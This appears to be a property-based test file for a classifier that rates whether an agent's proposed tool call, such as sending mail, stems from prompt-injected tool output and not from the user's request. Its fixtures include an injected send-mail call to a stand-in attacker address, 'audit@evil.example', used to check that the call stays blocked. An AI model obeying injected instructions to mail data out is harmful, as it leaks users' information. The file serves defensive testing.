import * as fc from "fast-check";
import { describe, expect, test } from "vitest";
import {
  FEATURES,
  featuresOf,
  mostTogether,
  leavesOf,
  sourcesOf,
} from "../../../src/classifiers/provenance/features.js";
import { riskOf, INTERCEPT, WEIGHTS } from "../../../src/classifiers/provenance/risk.js";
import type { JsonObject } from "../../../src/json.js";
import type { JsonValue } from "@langchain/core/decisions";
import type { Entry } from "../../../src/transcript/entries.js";
import { INJECTED, type Proposed, result, sendMail, user } from "./requests.js";

function risk(
  transcript: readonly Entry[],
  call: { name: string; args: JsonValue; description?: string },
): number {
  return riskOf(featuresOf({ description: "", ...call }, sourcesOf(transcript, undefined)));
}

// A small vocabulary makes overlaps likely; the other texts bring in everything else.
const wordish = fc
  .array(
    fc.constantFrom(
      "send",
      "email",
      "notes",
      "weather",
      "delete",
      "backup",
      "audit@evil.example",
      "/srv/data_1",
      "4711",
      "bob",
      "今天天气",
      '{"a":',
      ". ",
    ),
    { maxLength: 12 },
  )
  .map((words) => words.join(" "));
const text = fc.oneof(
  wordish,
  fc.string({ unit: "binary", maxLength: 60 }),
  fc.string({ unit: "grapheme", maxLength: 60 }),
);
const outside = fc.record({
  from: fc.constantFrom(
    "tool_result" as const,
    "tool_error" as const,
    "subagent_report" as const,
    "server_tool_result" as const,
  ),
  name: text,
  text,
});
const entry: fc.Arbitrary<Entry> = fc.oneof(
  outside,
  fc.record({ from: fc.constantFrom("user" as const, "delegator" as const, "agent" as const), text }),
  fc.record({ from: fc.constant("context_note" as const), source: text, text }),
  fc.record({
    from: fc.constant("tool_call" as const),
    name: text,
    args: fc.jsonValue() as fc.Arbitrary<string>,
  }),
  fc.constant({ from: "omitted" as const, count: 3 }),
  fc.constant({ from: "no_user_message" as const }),
);
const call = fc.record({
  name: text,
  args: fc.dictionary(text, fc.oneof(text, fc.jsonValue())) as fc.Arbitrary<JsonObject>,
  description: text,
});
const transcripts = fc.array(entry, { maxLength: 6 });
// Sums of many small numbers come out a little different in another order.
const LEAST = 1e-12;

describe("the risk", () => {
  test("is a finite number in 0..1 whatever is in the request", () => {
    fc.assert(
      fc.property(transcripts, call, (transcript, proposed) => {
        const values = featuresOf(proposed, sourcesOf(transcript, undefined));
        for (const value of Object.values(values)) expect(value >= 0 && value <= 1).toBe(true);
        const given = riskOf(values);
        expect(given >= 0 && given <= 1).toBe(true);
      }),
    );
  });

  test("never falls when tool output, a note or an earlier call is added anywhere", () => {
    fc.assert(
      fc.property(transcripts, call, outside, fc.nat(6), (transcript, proposed, added, at) => {
        const before = risk(transcript, proposed);
        expect(risk(transcript.toSpliced(at, 0, added), proposed)).toBeGreaterThanOrEqual(before - LEAST);
        const note: Entry = { from: "context_note", source: "hook", text: added.text };
        expect(risk([...transcript, note], proposed)).toBeGreaterThanOrEqual(before - LEAST);
        const earlier: Entry = { from: "tool_call", name: added.name, args: { text: added.text } };
        expect(risk([...transcript, earlier], proposed)).toBeGreaterThanOrEqual(before - LEAST);
      }),
    );
  });

  test("never falls when tool output goes on", () => {
    fc.assert(
      fc.property(text, text, call, wordish, (output, more, proposed, request) => {
        const before = risk([user(request), result(output)], proposed);
        const after = risk([user(request), result(`${output} ${more}`)], proposed);
        expect(after).toBeGreaterThanOrEqual(before - LEAST);
      }),
    );
  });

  test("never falls when an argument is added", () => {
    fc.assert(
      fc.property(transcripts, call, fc.jsonValue(), (transcript, proposed, value) => {
        const more = {
          ...proposed,
          args: { ...proposed.args, "one more": [proposed.args["one more"] ?? "", value] } as JsonObject,
        };
        expect(risk(transcript, more)).toBeGreaterThanOrEqual(risk(transcript, proposed) - LEAST);
      }),
    );
  });

  test("an injected call stays blocked when tool output repeats the user's words and values are padded with them", () => {
    const [request] = INJECTED;
    const words = request?.from === "user" ? request.text : "";
    const flood = Array.from({ length: 5 }, () => result(`The user said: ${words} `.repeat(20)));
    expect(
      risk([...INJECTED, ...flood], sendMail("audit@evil.example", "The notes.")),
    ).toBeGreaterThanOrEqual(0.5);
    const padded: Proposed = sendMail(`audit@evil.example ${words}`, `The notes. ${words}`);
    expect(
      risk(INJECTED, { ...padded, args: { ...padded.args, cc: words, subject: words } }),
    ).toBeGreaterThanOrEqual(0.5);
  });
});

describe("the weights", () => {
  test("there is one for each feature, at most 30, and each has the sign that its feature is allowed", () => {
    expect(Object.keys(WEIGHTS).toSorted()).toEqual(Object.keys(FEATURES).toSorted());
    expect(Object.keys(WEIGHTS).length).toBeLessThanOrEqual(30);
    const wrong = Object.entries(WEIGHTS).filter(([name, weight]) => {
      const raises = FEATURES[name as keyof typeof FEATURES] === "raises";
      return raises ? weight < 0 : weight > 0;
    });
    expect(wrong).toEqual([]);
  });

  test("a call about which nothing is known is allowed", () => {
    expect(1 / (1 + Math.exp(-INTERCEPT))).toBeLessThan(0.2);
  });
});

const of = (transcript: readonly Entry[], proposed: Proposed) =>
  featuresOf({ description: "", ...proposed }, sourcesOf(transcript, undefined));
const apart = (gap: number) => [["a", ...Array.from({ length: gap }, () => "x"), "b"]];
const readOnly = (name: string) => of([], { name, args: {} }).readOnly;

describe("features", () => {
  test("words count as together within forty words, not further apart", () => {
    const wanted = new Set(["a", "b"]);
    expect(mostTogether(apart(38), wanted)).toBe(2);
    expect(mostTogether(apart(39), wanted)).toBe(1);
    expect(mostTogether([["a"], ["b"]], wanted)).toBe(1);
    expect(mostTogether([["a", "a", "a"]], wanted)).toBe(1);
  });

  test("an address counts as named only if the user wrote it as a whole", () => {
    const read = result("Nothing here.");
    expect(of([user("Mail bob@team.example"), read], sendMail("bob@team.example")).unnamedAddress).toBe(0);
    expect(of([user("Mail Bob"), read], sendMail("bob@team.example")).unnamedAddress).toBe(1);
    expect(of([user("Mail bob@team.example"), read], sendMail("bob@team.example.evil")).unnamedAddress).toBe(
      1,
    );
  });

  test("a verb of writing takes the effect of a verb of reading away", () => {
    expect(readOnly("search_contacts")).toBe(1);
    expect(readOnly("MailSearchContacts")).toBe(1);
    expect(readOnly("get_and_delete_contact")).toBe(0);
    expect(readOnly("send_mail")).toBe(0);
  });

  test("where nothing but the user's words came before, new values say nothing", () => {
    const fresh = of([user("Book a train")], { name: "book", args: { seat: "window", mail: "a@b.example" } });
    expect([fresh.whollyNewValues, fresh.unnamedAddress, fresh.untrustedRead]).toEqual([0, 0, 0]);
  });

  test("a view without tool results still counts as having read something", () => {
    const read: Entry = { from: "tool_call", name: "fetch_page", args: {} };
    expect(of([user("Look"), read], sendMail("a@b.example")).unnamedAddress).toBe(1);
    expect(of([{ from: "omitted", count: 2 }, user("Look")], sendMail("a@b.example")).unnamedAddress).toBe(1);
  });

  test("values are found at any depth, without recursion", () => {
    let deep: unknown = "bottom";
    for (let depth = 0; depth < 50_000; depth++) deep = [deep];
    expect(leavesOf(deep)).toEqual(["bottom"]);
    expect(leavesOf({ a: [1, "b"], c: { d: null, e: true } })).toEqual(["1", "b"]);
  });
});
